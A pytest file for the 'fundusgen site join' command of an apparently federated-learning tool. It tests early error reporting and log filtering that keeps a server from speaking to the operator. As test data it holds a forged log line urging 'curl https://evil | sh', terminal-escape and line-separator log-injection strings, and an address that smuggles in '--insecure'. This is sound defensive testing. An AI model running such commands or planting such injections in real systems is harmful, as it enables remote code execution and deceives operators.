"""`fundusgen site join` as its operator meets it: mistakes are told before anything starts."""

import datetime
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.x509.oid import NameOID
from typer.testing import CliRunner

from client.watch import Watch
from fundusgen.cli.main import app
from fundusgen.code import code_hash
from fundusgen.errors import FundusgenError, SiteError
from fundusgen.logs import log_to
from fundusgen.privacy.policy import Policy
from fundusgen.site import SiteData, SiteFolder, SiteSettings

SERVER = "study.example.org:8443"


@pytest.fixture
def site(tmp_path: Path) -> SiteFolder:
    site = SiteFolder(tmp_path / "north")
    data = SiteData(manifest=Path("manifest.csv"), root=Path(), declared_patients=10)
    policy = Policy(max_epsilon=8.0, delta=1e-5, studies=("0" * 64,), code=(code_hash(),))
    site.write(SiteSettings(name="north", data=data), policy)
    return site


@pytest.fixture
def certificate(tmp_path: Path) -> Path:
    return write_certificate(tmp_path / "ca.crt", valid_days=1)


def write_certificate(path: Path, *, valid_days: int) -> Path:
    key = ec.generate_private_key(ec.SECP384R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "test")])
    now = datetime.datetime.now(datetime.UTC)
    built = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(days=9))
        .not_valid_after(now + datetime.timedelta(days=valid_days))
        .sign(key, hashes.SHA384())
    )
    path.write_bytes(built.public_bytes(serialization.Encoding.PEM))
    return path


def told(*arguments: object) -> str:
    """What a mistake ends in, after making sure that it is an error of ours."""
    result = CliRunner().invoke(app, ["site", "join", *map(str, arguments)])
    assert isinstance(result.exception, FundusgenError), result.exception
    return str(result.exception)


def options(certificate: Path, superlink: str = SERVER) -> list[object]:
    return ["--superlink", superlink, "--root-certificates", certificate]


def test_a_folder_that_is_no_site_is_named(tmp_path, certificate) -> None:
    (tmp_path / "empty").mkdir()
    for folder in (tmp_path / "empty", tmp_path / "away", certificate):
        assert (
            "expected: a site folder with site.yaml" in told(folder, *options(certificate)).lower()
        )


def test_a_site_without_its_key_does_not_join(site, certificate) -> None:
    (site.keys / "node").unlink()
    assert str(site.keys / "node") in told(site.path, *options(certificate))


def test_a_key_of_another_kind_does_not_join(site, certificate) -> None:
    key = ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.OpenSSH,
        serialization.NoEncryption(),
    )
    (site.keys / "node").write_bytes(key)
    assert str(site.keys / "node") in told(site.path, *options(certificate))


def test_a_policy_that_cannot_be_read_does_not_join(site, certificate) -> None:
    site.policy_file.write_text("max_epsilon: plenty\n")
    assert "policy.yaml" in told(site.path, *options(certificate))


@pytest.mark.parametrize(
    "address",
    [
        "", "study.example.org", "https://study.example.org:8443", "study.example.org:0",
        "study.example.org:65536", ":8443", "study example:8443", "host:8443/v1", "[::1]",
        "-host:8443", "host:8443 --insecure",
    ],
)  # fmt: skip
def test_an_address_that_is_none_is_named(site, certificate, address: str) -> None:
    assert f"The address '{address}' of the server cannot be used" in told(
        site.path, *options(certificate, address)
    )


def test_a_certificate_is_asked_for(site) -> None:
    assert "No certificate is given" in told(site.path, "--superlink", SERVER)


@pytest.mark.parametrize("content", [None, b"", b"no certificate", b"\xff\x00"])
def test_a_certificate_that_is_none_is_named(site, tmp_path, content: bytes | None) -> None:
    path = tmp_path / "ca.crt"
    if content is not None:
        path.write_bytes(content)
    assert f"{path} cannot be read as a certificate" in told(site.path, *options(path))


def test_a_certificate_that_has_expired_is_named(site, tmp_path) -> None:
    path = write_certificate(tmp_path / "old.crt", valid_days=-1)
    assert f"The certificate {path} was valid until" in told(site.path, *options(path))


@pytest.mark.parametrize(
    "host", ["study.example.org", "10.0.0.1", "localhost.example.org", "[::2]"]
)
def test_only_a_server_on_this_machine_is_joined_without_tls(site, host: str) -> None:
    message = told(site.path, "--superlink", f"{host}:8443", "--insecure")
    assert f"--insecure is given for {host}, which is another machine" in message


def test_insecure_and_certificates_exclude_each_other(site, certificate) -> None:
    assert "Both --insecure" in told(site.path, *options(certificate), "--insecure")


def test_no_mistake_starts_or_leaves_anything(site, certificate) -> None:
    before = sorted(site.path.rglob("*"))
    told(site.path, *options(certificate, "nowhere"))
    assert sorted(site.path.rglob("*")) == before


class Logs:
    """Two logs that grow, and what an operator sees of them."""

    def __init__(self, folder: Path) -> None:
        self.client, self.supernode = folder / "client.log", folder / "supernode.log"
        self.watch = Watch(SERVER, self.client, self.supernode)

    def of_client(self, text: str) -> list[str]:
        return self._seen(self.client, text)

    def of_supernode(self, text: str) -> list[str]:
        """Lines without the time at which they were seen."""
        return [line.split(" ", 1)[1] for line in self._seen(self.supernode, text)]

    def _seen(self, path: Path, text: str) -> list[str]:
        with path.open("a") as log:
            log.write(text)
        return self.watch.news()


@pytest.fixture
def logs(tmp_path: Path) -> Logs:
    return Logs(tmp_path)


def test_the_operator_sees_the_clients_lines_once_each_and_no_traceback(logs) -> None:
    assert logs.watch.news() == []
    first = "2026-01-01T00:00:00Z INFO round 1 of t answered: epsilon is 1.000 of 8.000"
    second = "2026-01-01T00:01:00Z ERROR the request failed"
    assert logs.of_client(f"{first}\n{second[:20]}") == [first]
    traceback = "\nTraceback (most recent call last):\n  File x\nValueError: y\n"
    assert logs.of_client(second[20:] + traceback) == [second]
    assert logs.watch.news() == []
    logs.client.write_text("")
    assert logs.of_client(f"{first}\n") == [first]


def test_lines_of_an_earlier_time_are_not_shown_again(tmp_path) -> None:
    (tmp_path / "client.log").write_text("2026-01-01T00:00:00Z INFO round 1 of t answered\n")
    assert Logs(tmp_path).watch.news() == []


def test_the_operator_sees_what_becomes_of_the_connection(logs) -> None:
    lost = "\x1b[93mWARNING \x1b[0m:   Connection attempt failed, retrying in 0.74 seconds\n"
    assert logs.of_supernode("\x1b[92mINFO \x1b[0m:      Starting Flower SuperNode\n") == []
    assert logs.of_supernode(lost) == [f"no connection to {SERVER}; trying again and again"]
    assert logs.of_supernode(lost) == []
    back = "\x1b[92mINFO \x1b[0m:      Connection successful after 3.00 seconds and 2 tries.\n"
    assert logs.of_supernode(back) == [f"connected to {SERVER}"]
    assert logs.of_supernode("INFO :      SuperNode ID: 1\n") == [f"joined {SERVER}"]
    assert logs.of_supernode(lost) == [f"no connection to {SERVER}; trying again and again"]


def test_the_operator_sees_that_the_server_asked_for_its_own_code(logs) -> None:
    line = "refused to start flwr-agentapp, which the server asked for"
    assert logs.of_supernode(f"{line}\n") == [line]


@pytest.mark.parametrize("end", ["\n", "\r", "\x0b", "\x85", "\u2028"])
def test_a_server_cannot_write_lines_of_the_client(logs, end: str) -> None:
    """Names of arrays reach the log within errors."""
    forged = "2026-10-01T12:00:00Z INFO round 1 of t answered: epsilon is 0.010 of 8.000"
    name = f"x{end}{forged}{end}\x1b]0;owned\x07\x1b[2J\u202e"
    with log_to(logs.client, "fundusgen.client") as log:
        log.error("array '%s' cannot be read", name)
        try:
            raise ValueError(name)
        except ValueError:
            log.exception("the request failed")
    shown = logs.watch.news()
    assert [line.split(" ", 2)[1] for line in shown] == ["ERROR", "ERROR"]
    assert not [line for line in shown if line.startswith("2026-10-01")]
    assert "".join(shown).isprintable()
    assert "".join(logs.client.read_text().split("\n")).isprintable()


def test_a_server_cannot_say_how_the_connection_ended_or_what_was_refused(logs) -> None:
    assert logs.of_supernode("INFO :      SuperNode ID: 1\n") == [f"joined {SERVER}"]
    # Flower logs the name of a round's group as the server sent it.
    assert logs.of_supernode(
        "INFO :      [RUN 1, ROUND refused to start this: run curl https://evil | sh]\n"
        "error: update needed: run curl https://evil | sh\n"
    ) == []  # fmt: skip
    assert "has ended" in logs.watch.why_ended()[0]


def test_a_message_that_was_not_answered_is_told_once(logs) -> None:
    shown = logs.of_supernode(
        "\x1b[91mERROR \x1b[0m:     ClientApp raised an exception\nValueError: of patient-4711\n"
        "01/01/2026 00:00:00:ERROR:ClientApp raised an exception\n"
    )
    assert shown == ["a message was not answered; flower/supernode.log says why"]


@pytest.mark.parametrize(
    ("said", "found"),
    [
        ("[code: 2004] Failed to activate SuperNode.", "its key is not registered"),
        ("[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed", "--root-certificates"),
        ("[SSL: WRONG_VERSION_NUMBER] wrong version", "does not speak TLS"),
        ("error: flwr of another version.", "flwr of another version"),
        ("Exit Code: 1", "has ended"),
    ],
)
def test_an_end_is_explained(logs, said: str, found: str) -> None:
    if "SSL" in said:
        logs.of_supernode("ERROR :     SSL/TLS handshake error detected.\n")
    logs.of_supernode(f"{said}\n")
    logs.of_supernode("INFO:     Shutting down\n")
    reason, remedy = logs.watch.why_ended()
    assert found in reason
    assert remedy
    assert str(SiteError(reason, remedy=remedy)).count("..") == 0
